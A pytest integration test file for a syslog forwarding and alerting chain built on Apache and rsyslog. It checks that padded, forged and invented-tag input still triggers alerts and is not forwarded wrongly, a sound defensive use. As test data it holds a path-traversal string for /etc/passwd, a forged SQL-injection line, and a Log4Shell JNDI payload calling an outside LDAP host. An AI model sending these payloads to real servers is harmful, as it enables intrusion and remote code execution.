"""The drop-ins against hostile senders, through the live chain: padded requests, forged local
lines, invented tags. Real Apache, real rsyslogd pair, the real program where alerts matter."""

from __future__ import annotations

import base64
import grp
import random
import socket
import stat
import time
import uuid
from pathlib import Path

import pytest
from conftest import WEBHOST_HOSTNAME, Chain, LiveChain

from lwsyslog import lab
from lwsyslog.lab.journal import field_values

pytestmark = pytest.mark.integration

TRAVERSAL = "file=../../../../etc/passwd"


def _marker() -> str:
    return f"m{uuid.uuid4().hex[:12]}"


def _unique_ip() -> str:
    return f"127.{random.randrange(1, 255)}.{random.randrange(1, 255)}.{random.randrange(2, 255)}"


def _logged(path: Path, needle: str) -> str:
    """The one line of Apache's log ``path`` containing ``needle``, once it is whole.

    Apache writes a long line in more than one piece (measured: a reader saw the first 8,192
    bytes of a 12,000-byte line), so a line counts only with its newline.
    """

    def whole() -> list[str]:
        lines = path.read_text(errors="replace").splitlines(keepends=True)
        return [x.rstrip("\n") for x in lines if needle in x and x.endswith("\n")]

    lab.wait_for(lambda: bool(whole()), 10, f"{needle} logged")
    (line,) = whole()
    return line


def _raw_request(port: int, source: str, request: bytes) -> bytes:
    """Send one raw HTTP request from ``source``; the status line of the answer."""
    with socket.create_connection(("127.0.0.1", port), timeout=10, source_address=(source, 0)) as s:
        s.sendall(request)
        answer = s.recv(4096)
    return answer.split(b"\r\n", 1)[0]


def _wait_raw_copy(live: LiveChain, line: str) -> None:
    raw = live.raw_dir / WEBHOST_HOSTNAME / "apache-access.log"

    def arrived() -> bool:
        return raw.exists() and line in raw.read_text(errors="replace").splitlines()

    lab.wait_for(arrived, 30, "the whole line in the server's raw copy")


def test_request_padded_past_8k_raises_the_traversal_alert(live: LiveChain) -> None:
    """rsyslog's default 8k cut this line before its closing quote: no rule ran, no alert."""
    assert live.apache is not None
    attacker = _unique_ip()
    target = f"/index.html?{TRAVERSAL}&pad=" + "A" * 12_000
    assert lab.fetch(live.apache.url(target), source=attacker) == 200
    line = _logged(live.apache.access_log, attacker)
    assert len(line) > 12_000

    alerts = live.wait_alerts(f"LWSYSLOG_CLIENT_IP={attacker}", timeout=30)
    assert any("path-traversal" in field_values(a, "LWSYSLOG_CATEGORY") for a in alerts)
    # The line arrived whole: not flagged as cut, and the server's raw copy is Apache's line.
    assert "protocol-cut-line" not in {a["LWSYSLOG_RULE"] for a in alerts}
    _wait_raw_copy(live, line)


def test_the_longest_line_apache_writes_arrives_whole(live: LiveChain) -> None:
    """Request line, Referer, User-Agent and Basic-auth user at Apache's default limits, every
    byte 0xFF (logged as \\xff, 4 characters): about 122,000 bytes, under the drop-ins'
    131,072."""
    assert live.apache is not None
    attacker = _unique_ip()
    head = f"GET /private/secret.txt?{TRAVERSAL}&pad=".encode()
    target = head[4:] + b"\xff" * (8190 - len(head) - len(b" HTTP/1.1"))
    header = b"\xff" * (8190 - len(b"User-Agent: ") - 2)
    user = base64.b64encode(b"\xff" * 6000 + b":x")
    request = (
        b"GET " + target + b" HTTP/1.1\r\nHost: lab\r\nUser-Agent: " + header
        + b"\r\nReferer: " + header[:-3] + b"\r\nAuthorization: Basic " + user + b"\r\n\r\n"
    )  # fmt: skip
    assert _raw_request(live.apache.port, attacker, request) == b"HTTP/1.1 401 Unauthorized"
    line = _logged(live.apache.access_log, attacker)
    assert 120_000 < len(line.encode()) < 131_072 - 200

    _wait_raw_copy(live, line)
    alerts = live.wait_alerts(f"LWSYSLOG_CLIENT_IP={attacker}", timeout=30)
    assert any("path-traversal" in field_values(a, "LWSYSLOG_CATEGORY") for a in alerts)


def test_only_apache_inputs_and_the_root_socket_are_forwarded(chain: Chain) -> None:
    forged, probe = _marker(), _marker()
    # Any local user can write to /dev/log; the web host reads it (the line lands in its own
    # log) but never forwards it, whatever the tag says.
    chain.logger(
        f'6.6.6.6 - - [x] "GET /?id=1 UNION SELECT {forged}" 200 1', socket=chain.system_socket
    )
    internal = chain.webhost.internal_log
    lab.wait_for(
        lambda: internal.exists() and forged in internal.read_text(errors="replace"),
        10,
        "the forged line in the web host's own log",
    )

    # The test socket, in a directory only root can enter, is forwarded.
    private = chain.input_socket.parent
    assert stat.S_IMODE(private.stat().st_mode) == 0o700 and private.stat().st_uid == 0
    chain.logger(f"GET /{probe} HTTP/1.1")
    (record,) = chain.wait_received(probe)
    assert record["program"] == "apache-access"
    time.sleep(1)  # the forged line was read first: it would have arrived by now
    assert chain.received(forged) == []


def test_invented_tags_make_no_raw_files(chain: Chain) -> None:
    run, last = _marker(), _marker()
    host_dir = chain.raw_dir / WEBHOST_HOSTNAME
    lab.inject(chain.input_port, [lab.syslog_line(f"seed {run}")])
    chain.wait_received(f"seed {run}")
    before = sorted(p.name for p in host_dir.iterdir())
    assert before and set(before) <= {"apache-access.log", "apache-error.log"}

    tags = [f"apache-x{n:03d}" for n in range(50)]
    lab.inject(
        chain.input_port,
        [lab.syslog_line(f"{run} {tag}", tag=tag) for tag in tags] + [lab.syslog_line(last)],
    )
    # Each reached the server's ruleset (the program gets every apache-* line) ...
    records = chain.wait_received(run, count=1 + len(tags))
    assert {r["program"] for r in records} >= set(tags)
    chain.wait_received(last)
    # ... and none got a file of its own.
    assert sorted(p.name for p in host_dir.iterdir()) == before


def test_raw_copies_are_0640_in_0750_directories_group_adm(chain: Chain) -> None:
    marker = _marker()
    lab.inject(chain.input_port, [lab.syslog_line(marker)])
    chain.wait_received(marker)
    host_dir = chain.raw_dir / WEBHOST_HOSTNAME
    raw = host_dir / "apache-access.log"
    lab.wait_for(lambda: marker in raw.read_text(errors="replace"), 10, "the raw copy")
    adm = grp.getgrnam("adm").gr_gid
    for path, mode in ((host_dir, 0o750), (raw, 0o640)):
        info = path.stat()
        assert (stat.S_IMODE(info.st_mode), info.st_gid) == (mode, adm), path


def test_an_attack_past_64k_in_the_longest_line_is_found(live: LiveChain) -> None:
    """The drop-ins deliver lines up to 128 KiB whole; the program must read them whole too."""
    assert live.apache is not None
    attacker = _unique_ip()
    pad = b"\xff" * 8000  # logged as 32,000 characters
    request = (
        b"GET /index.html?q=" + pad + b" HTTP/1.1\r\nHost: lab\r\nReferer: " + pad
        + b"\r\nUser-Agent: " + pad[:4000] + b"${jndi:ldap://198.51.100.9/a}\r\n\r\n"
    )  # fmt: skip
    assert _raw_request(live.apache.port, attacker, request) == b"HTTP/1.1 200 OK"
    line = _logged(live.apache.access_log, attacker)
    assert line.index("${jndi:") > 65_536
    _wait_raw_copy(live, line)
    alerts = live.wait_alerts(f"LWSYSLOG_CLIENT_IP={attacker}", timeout=15)
    assert any("log4shell" in field_values(a, "LWSYSLOG_CATEGORY") for a in alerts)
